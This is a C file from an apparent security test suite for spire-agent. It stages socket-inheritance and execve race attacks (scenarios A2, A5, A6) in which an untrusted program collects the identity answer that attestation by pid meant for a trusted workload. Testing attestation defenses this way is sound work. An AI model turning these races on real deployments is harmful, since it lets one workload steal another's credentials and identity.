// SPDX-License-Identifier: Apache-2.0
/*
 * A2, A5, A6: a connection and an execve in another order than the agent expects. Runs in svid-attack. spire-agent
 * identifies by pid when the request arrives; pid and start time survive an execve (reference/spire.md 3.3, W2).
 */
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "tests/attack/attack.h"

#define EXEC_SETTLE_MS 300 /* long enough for the parent to be the trusted program */

/*
 * The child keeps the socket and asks once its parent is somebody else. how=early: the parent asked, so the kernel's
 * stamp on the request is the right pid; the test keeps the agent from looking until the parent is the trusted program.
 */
static void ask_later(const struct options *o, int fd, const struct request *rest)
{
	struct answer a;

	sleep_ms(EXEC_SETTLE_MS);
	answer_init(&a);
	if (is_how(o, "early")) {
		sync_point("replaced");
		client_read(fd, &a, o->wait_ms, true);
	} else if (client_send(fd, &a, rest->bytes, rest->len) == 0 || !a.error) {
		a.closed = false;
		client_read(fd, &a, o->wait_ms, false);
	}
	answer_say("thief", &a);
	_exit(0);
}

static void *exec_trusted(void *arg)
{
	const struct options *o = arg;

	exec_as(o->trusted, "hold", word("delay", 1500), NULL);
	return NULL;
}

/* vfork: the parent is suspended until the child execs, so the child is a program of its own. */
static void vfork_child(const struct options *o, int fd)
{
	char fd_word[32], wait_word[32], delay_word[32];
	char *argv[] = {(char *)o->evil, is_how(o, "early") ? "read-fd-sync" : "ask-fd", fd_word, wait_word, delay_word,
			client_asks_by() ? (char *)word_text("ask", client_asks_by()) : NULL, NULL};
	char *env[] = {NULL};
	pid_t pid;

	snprintf(fd_word, sizeof(fd_word), "fd=%d", fd);
	snprintf(wait_word, sizeof(wait_word), "wait=%d", o->wait_ms);
	snprintf(delay_word, sizeof(delay_word), "delay=%d", EXEC_SETTLE_MS);
	keep_open(fd);
	pid = vfork();
	if (pid == 0) {
		execve(o->evil, argv, env);
		_exit(3);
	}
	if (pid < 0)
		die("vfork");
}

/* A2. The parent's descriptor closes at its exec; the thief's stays. */
static int connect_fork_exec(const struct options *o)
{
	struct request r, rest = {.len = 0};
	struct answer a;
	pthread_t thread;
	int fd = client_open(o->socket);

	request_build(&r);
	answer_init(&a);
	if (is_variant(o, "half")) {
		client_send(fd, &a, r.bytes, r.half);
		memcpy(rest.bytes, r.bytes + r.half, r.len - r.half);
		rest.len = r.len - r.half;
	} else {
		rest = r;
	}
	if (is_variant(o, "vfork"))
		vfork_child(o, fd);
	else if (fork() == 0)
		ask_later(o, fd, &rest);
	if (is_how(o, "early") && client_send(fd, &a, rest.bytes, rest.len))
		die("send");
	if (!is_variant(o, "thread"))
		exec_trusted((void *)o);
	if (pthread_create(&thread, NULL, exec_trusted, (void *)o))
		die("pthread_create");
	pthread_join(thread, NULL);
	return 3;
}

struct becoming {
	const struct options *o;
	int fd;
};

static void *exec_reader(void *arg)
{
	const struct becoming *b = arg;

	exec_as(b->o->evil, "read-fd-sync", word("fd", b->fd), word("wait", b->o->wait_ms), NULL);
	return NULL;
}

/*
 * A5: the trusted program asks, becomes another program, and that one collects. The test holds the front meanwhile.
 * variant=thread: by a thread that is not the leader, whose id the new program gets.
 */
static int ask_exec(const struct options *o)
{
	struct request r;
	struct answer a;
	pthread_t thread;
	int fd = client_open(o->socket);
	struct becoming b = {.o = o, .fd = fd};

	answer_init(&a);
	request_build(&r);
	sleep_ms(o->delay_ms);
	sync_point("connected");
	client_send(fd, &a, r.bytes, r.len);
	sleep_ms(EXEC_SETTLE_MS);
	keep_open(fd);
	if (!is_variant(o, "thread"))
		exec_reader(&b);
	if (pthread_create(&thread, NULL, exec_reader, &b))
		die("pthread_create");
	pthread_join(thread, NULL);
	return 3;
}

static int read_fd_sync(const struct options *o)
{
	struct answer a;

	sleep_ms(o->delay_ms);
	sync_point("replaced");
	answer_init(&a);
	client_read(o->fd, &a, o->wait_ms, true);
	answer_say("thief", &a);
	return 0;
}

/* A6: the trusted program connects and at once becomes the evil one, which asks with the socket it inherits. */
static int exec_ask(const struct options *o)
{
	int fd = client_open(o->socket);

	if (o->delay_ms)
		sleep_ms(o->delay_ms);
	keep_open(fd);
	exec_as(o->evil, "ask-fd", word("fd", fd), word("wait", o->wait_ms), NULL);
}

/* A6 on a connection that was served before: the evil program opens a second stream on it. */
static int fetch_exec_ask(const struct options *o)
{
	struct answer a;
	int fd = client_open(o->socket);

	answer_init(&a);
	client_ask(fd, &a, o->wait_ms);
	answer_say("before", &a);
	keep_open(fd);
	exec_as(o->evil, "ask-more-fd", word("fd", fd), word("wait", o->wait_ms), NULL);
}

/* The header compression has a state; a fresh decoder copes while the server indexes nothing it needs. */
static int ask_more_fd(const struct options *o)
{
	struct request r = {.len = 0};
	struct answer a;

	answer_init(&a);
	request_more(&r, 3);
	if (client_send(o->fd, &a, r.bytes, r.len) == 0 || !a.error) {
		a.closed = false;
		client_read(o->fd, &a, o->wait_ms, true);
	}
	answer_say("thief", &a);
	return 0;
}

const struct command fork_exec_commands[] = {
	{"a2", "connect, fork, the parent execs trusted; variant=vfork|thread|half how=early", connect_fork_exec},
	{"a5", "trusted asks and execs evil before the answer", ask_exec},
	{"a6", "trusted connects and execs evil, which asks", exec_ask},
	{"a6-second", "the same after trusted was served once", fetch_exec_ask},
	{"read-fd-sync", "(second half of a5)", read_fd_sync},
	{"ask-more-fd", "(second half of a6-second)", ask_more_fd},
	{NULL, NULL, NULL},
};
